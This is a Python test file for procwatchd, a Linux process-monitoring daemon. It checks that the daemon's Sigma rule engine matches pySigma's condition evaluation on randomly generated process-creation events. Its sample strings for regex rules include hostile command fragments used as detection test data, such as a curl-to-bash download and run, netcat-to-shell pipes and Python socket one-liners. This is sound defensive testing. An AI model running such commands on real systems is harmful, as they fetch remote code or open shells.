# SPDX-License-Identifier: MIT
"""Sigma rules mean what pySigma says: its conditions, evaluated here in the plainest way, agree on random events.

Beside the rules in tests/data those in the directory that SIGMA_RULES names are tried, where it is set.
"""

from __future__ import annotations

import functools
import os
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sigma.conditions import (
    ConditionAND,
    ConditionFieldEqualsValueExpression,
    ConditionItem,
    ConditionNOT,
    ConditionOR,
    ConditionValueExpression,
)
from sigma.rule import SigmaRule
from sigma.types import (
    CompareOperators,
    SigmaBool,
    SigmaCasedString,
    SigmaCompareExpression,
    SigmaExists,
    SigmaExpansion,
    SigmaNull,
    SigmaNumber,
    SigmaRegularExpression,
    SigmaRegularExpressionFlag,
    SigmaString,
    SpecialChars,
)

from procwatchd.process.model import Context, Creds, Image, Process, Record
from procwatchd.process.users import Users
from procwatchd.rules.ruleset import Decision
from procwatchd.rules.sigma import Sigma
from procwatchd.sigmafiles import load_sigma

OWN = Path(__file__).parents[1] / "data/sigma"
PLACES = [OWN, *map(Path, filter(None, [os.environ.get("SIGMA_RULES")]))]
FILES = [path for place in PLACES for path in sorted(place.rglob("*.y*ml"))]
EVENTS = 300  # of each rule
# Python means to read sets within sets one day, and says so.
pytestmark = pytest.mark.filterwarnings("ignore:Possible:FutureWarning")
SEED = 6

TEXTS = ("Image", "CommandLine", "CurrentDirectory", "User", "ParentImage", "ParentCommandLine", "ParentUser")
NUMBERS = ("LogonId", "ProcessId", "ParentProcessId")
# ParentUser is of the parent, not of the event, to whoever searches all of it.
SEARCHED = TEXTS[:-1]

Event = dict[str, str | int | None]
Leaf = ConditionFieldEqualsValueExpression | ConditionValueExpression


@dataclass
class Oracle:
    """A rule as pySigma reads it."""

    conditions: list[Any]

    @classmethod
    def of(cls, file: Path) -> Oracle:
        rule = SigmaRule.from_yaml(file.read_text("utf-8"))
        return cls([condition.parsed for condition in rule.detection.parsed_condition])

    def matches(self, event: Event) -> bool:
        return any(holds(condition, event) for condition in self.conditions)

    def leaves(self) -> Iterator[Leaf]:
        for condition in self.conditions:
            yield from leaves_of(condition)


def leaves_of(condition: Any) -> Iterator[Leaf]:
    if isinstance(condition, ConditionItem):
        for arg in condition.args:
            yield from leaves_of(arg)
    else:
        yield condition


def holds(condition: Any, event: Event) -> bool:
    if isinstance(condition, ConditionAND):
        return all(holds(arg, event) for arg in condition.args)
    if isinstance(condition, ConditionOR):
        return any(holds(arg, event) for arg in condition.args)
    if isinstance(condition, ConditionNOT):
        return not holds(condition.args[0], event)
    if isinstance(condition, ConditionFieldEqualsValueExpression):
        return equals(condition.value, event.get(condition.field))
    assert isinstance(condition, ConditionValueExpression)
    return any(event[field] is not None and found(condition.value, str(event[field])) for field in SEARCHED)


def equals(expected: Any, value: str | int | None) -> bool:
    if isinstance(expected, SigmaExpansion):
        return any(equals(each, value) for each in expected.values)
    if isinstance(expected, SigmaNull):
        return value is None
    if isinstance(expected, SigmaExists):
        return (value is not None) is expected.exists
    if value is None:
        return False
    if isinstance(expected, SigmaCompareExpression):
        return isinstance(value, int) and COMPARE[expected.op](value, expected.number.number)
    if isinstance(expected, SigmaNumber | SigmaBool):
        return str(value).lower() == str(expected).lower()
    if isinstance(expected, SigmaRegularExpression):
        return found(expected, str(value))
    return compiled(expected).fullmatch(str(value)) is not None


COMPARE: dict[CompareOperators, Callable[[float, float], bool]] = {
    CompareOperators.LT: lambda value, limit: value < limit,
    CompareOperators.LTE: lambda value, limit: value <= limit,
    CompareOperators.GT: lambda value, limit: value > limit,
    CompareOperators.GTE: lambda value, limit: value >= limit,
}


def found(expected: Any, text: str) -> bool:
    return compiled(expected).search(text) is not None


def compiled(expected: Any) -> re.Pattern[str]:
    """What a text is compared with, made once: Python keeps only some hundred."""
    if id(expected) not in PATTERNS:
        PATTERNS[id(expected)] = (expected, re.compile(*as_regex(expected)))
    return PATTERNS[id(expected)][1]


PATTERNS: dict[int, tuple[Any, re.Pattern[str]]] = {}
FLAGS = {
    SigmaRegularExpressionFlag.IGNORECASE: re.IGNORECASE,
    SigmaRegularExpressionFlag.MULTILINE: re.MULTILINE,
    SigmaRegularExpressionFlag.DOTALL: re.DOTALL,
}
WILD = {SpecialChars.WILDCARD_MULTI: ".*", SpecialChars.WILDCARD_SINGLE: "."}


def as_regex(expected: Any) -> tuple[str, int]:
    if isinstance(expected, SigmaRegularExpression):
        return str(expected.regexp), sum(FLAGS[flag] for flag in expected.flags)
    assert isinstance(expected, SigmaString)
    parts = (re.escape(part) if isinstance(part, str) else WILD[part] for part in expected.s)  # type: ignore[index]
    return "".join(parts), re.DOTALL | (0 if isinstance(expected, SigmaCasedString) else re.IGNORECASE)


class Events:
    """Makes random events of what a rule itself looks for."""

    def __init__(self, oracle: Oracle, seed: int) -> None:
        self.chance = random.Random(seed)
        self.wanted: dict[str, list[Any]] = {}
        self.is_dull = False
        for leaf in oracle.leaves():
            fields = [leaf.field] if isinstance(leaf, ConditionFieldEqualsValueExpression) else SEARCHED
            for field in fields:
                self.wanted.setdefault(field, []).append(leaf.value)

    def event(self) -> Event:
        self.is_dull = self.chance.random() < 0.2
        texts: Event = {field: self.text(field) for field in TEXTS}
        numbers: Event = {field: self.number(field) for field in NUMBERS}
        # What no process is without.
        numbers["ProcessId"] = numbers["ProcessId"] or 7
        # A user whose name cannot be in the file has none.
        for field in ("User", "ParentUser"):
            if not re.fullmatch(r"[^:\n+-][^:\n]*", str(texts[field] or "")):
                texts[field] = None
        if texts["ParentUser"] is not None:
            texts["ParentImage"] = texts["ParentImage"] or "/usr/bin/parent"
        return texts | numbers

    def text(self, field: str) -> str | None:
        wanted = self.wanted.get(field, [])
        if self.is_dull or not wanted or self.chance.random() < 0.1:
            return self.chance.choice([None, "", "x", "/usr/bin/other", "root"])
        count = self.chance.choice([1, 1, 1, 2, len(wanted)])
        pieces = [self.like(each) for each in self.chance.sample(wanted, min(count, len(wanted)))]
        return self.joined(pieces) if count > 1 else self.damaged(pieces[0])

    def joined(self, pieces: list[str]) -> str:
        return self.chance.choice(["", " ", "-"]).join(pieces)

    def like(self, expected: Any) -> str:
        """A text that is, more often than not, what is expected."""
        if isinstance(expected, SigmaExpansion):
            return self.like(self.chance.choice(expected.values))
        if isinstance(expected, SigmaRegularExpression):
            return self.chance.choice(REGEX_TEXTS)
        if not isinstance(expected, SigmaString):
            return str(expected) if isinstance(expected, SigmaNumber | SigmaBool) else "null"
        filler = ["", "a", "/", " ", "\n", "*", "\\", "é", "sh"]
        one = ["x", "?", "\n", "ß"]
        text = "".join(
            part
            if isinstance(part, str)
            else self.chance.choice(filler if part is SpecialChars.WILDCARD_MULTI else one)
            for part in expected.s
        )
        return self.chance.choice([text, text, text, text.upper(), text.lower()])

    def damaged(self, text: str) -> str:
        at = self.chance.randrange(len(text) + 1)
        kinds = [text, text, text, text, "x" + text, text + "x", text[:at] + text[at + 1 :], text.swapcase()]
        return self.chance.choice(kinds)

    def number(self, field: str) -> int | None:
        near = [0, 1, 7]
        for expected in self.wanted.get(field, []):
            number = expected.number if isinstance(expected, SigmaCompareExpression) else expected
            if isinstance(number, SigmaNumber | SigmaString):
                near += [int(str(number)) + by for by in (-1, 0, 0, 0, 1)]
        return self.chance.choice([None, *(number for number in near if number >= 0)])


REGEX_TEXTS = [
    *("Python3 -c import socket", "python -c socket.socket(", "begin\nend", "first\nsecond", "LD_PRELOAD=x"),
    *("curl http://10.0.0.1/x | bash", "x |sh", "10.0.0.1 socket.connect(", "ld_preload=x", "x| dashboard"),
    *("", "nothing of the kind", "1.2.3.4", "|  sh"),
    *(
        "nc;&&sh",
        "nc|sh",
        "nc&sh",
        "ncsh",
        "x[]y",
        "xa]y",
        "xb]y",
        "xay",
        "+z",
        ",z",
        "-z",
        ".z",
        ".q",
        "/q",
        "-q",
        ",q",
    ),
    *("k~k", "k&k", "k-k", "v]v", "v^v", "v-v", "v[v", "w[]-<w", "w-<w", "w2<w", "w-w"),
]


def record_of(event: Event, directory: Path) -> Record:
    """The record of an exec with these values."""
    names = [str(event[field]) for field in ("User", "ParentUser") if event[field] is not None]
    users = users_named(tuple(filter(None, names)), directory)
    has_parent = any(event[f"Parent{field}"] is not None for field in ("Image", "CommandLine", "User"))
    parent = None
    if has_parent:
        parent = process_of(event, "Parent", None, creds_of(event["ParentUser"], names, users))
    of = process_of(event, "", parent, creds_of(event["User"], names, users))
    return Record("exec", of, 0, "proc", "same")


@functools.cache
def users_named(names: tuple[str, ...], directory: Path) -> Users:
    passwd = directory / "passwd"
    passwd.write_bytes("".join(f"{name}:x:{uid}:0::/:\n" for uid, name in enumerate(names)).encode())
    return Users(lambda _: None, str(passwd))


def creds_of(name: Any, names: list[str], users: Users) -> Creds | None:
    uid = names.index(name) if name in names else None
    return None if uid is None else Creds(uid, uid, uid, uid, users)


def process_of(event: Event, prefix: str, parent: Process | None, creds: Creds | None) -> Process:
    exe, command, directory = (event.get(prefix + f) for f in ("Image", "CommandLine", "CurrentDirectory"))
    argv = None if command is None else str(command).replace(" ", "\0").encode() + b"\0"
    login = None if prefix else event["LogonId"]
    return Process(
        int(event["ProcessId"] or 0),
        1,
        parent,
        None if event["ParentProcessId"] is None else int(event["ParentProcessId"]),
        b"comm",
        Image(None if exe is None else str(exe).encode(), argv, len(argv or b""), b"", "same"),
        Context(
            cwd=None if directory is None else str(directory).encode(),
            loginuid=None if login is None else int(login),
        ),
        creds,
    )


def loaded(file: Path) -> Sigma:
    sigma = load_sigma([str(file)], "informational", ["stable", "test", "experimental"], [])
    assert sigma.problems == ()
    assert len(sigma.rules) == 1
    return sigma


def is_for_us(file: Path) -> bool:
    text = file.read_text("utf-8")
    return "product: linux" in text and "category: process_creation" in text


@pytest.mark.parametrize("file", [file for file in FILES if is_for_us(file)], ids=lambda file: file.stem)
def test_a_rule_matches_what_pysigma_says(file: Path, tmp_path: Path) -> None:
    oracle, sigma = Oracle.of(file), loaded(file)
    events = Events(oracle, SEED)
    seen = set()
    for _ in range(EVENTS):
        event = events.event()
        is_hit = bool(sigma.judge(record_of(event, tmp_path), Decision("log", None, 6)).detections)
        assert is_hit is oracle.matches(event), event
        seen.add(is_hit)
    # What another one's expressions would find, nobody here knows.
    assert seen == {True, False} or not file.is_relative_to(OWN)


def test_many_rules_at_once_match_what_each_does(tmp_path: Path) -> None:
    files = [file for file in FILES if is_for_us(file)]
    oracles = {str(file): Oracle.of(file) for file in files}
    sigma = load_sigma([*oracles], "informational", ["stable", "test", "experimental"], [])
    titles = {rule.detection.title: oracles[rule.file] for rule in sigma.rules}
    assert len(titles) == len(files)
    for number, oracle in enumerate(titles.values()):
        events = Events(oracle, SEED + number)
        for _ in range(20):
            event = events.event()
            decision = sigma.judge(record_of(event, tmp_path), Decision("log", None, 6))
            wanted = {title for title, each in titles.items() if each.matches(event)}
            assert {detection.title for detection in decision.detections} == wanted, event


def test_the_rules_here_use_all_there_is() -> None:
    assert len([file for file in FILES if file.is_relative_to(OWN)]) >= 30
    text = "".join(file.read_text("utf-8") for file in FILES)
    words = ["contains", "startswith", "endswith", "all", "re", "i", "m", "s", "cased", "windash", "exists"]
    words += ["lt", "lte", "gt", "gte", "neq", "base64", "base64offset", "wide", "utf16", "utf16be"]
    assert [word for word in words if not re.search(rf"\|{word}\b", text)] == []
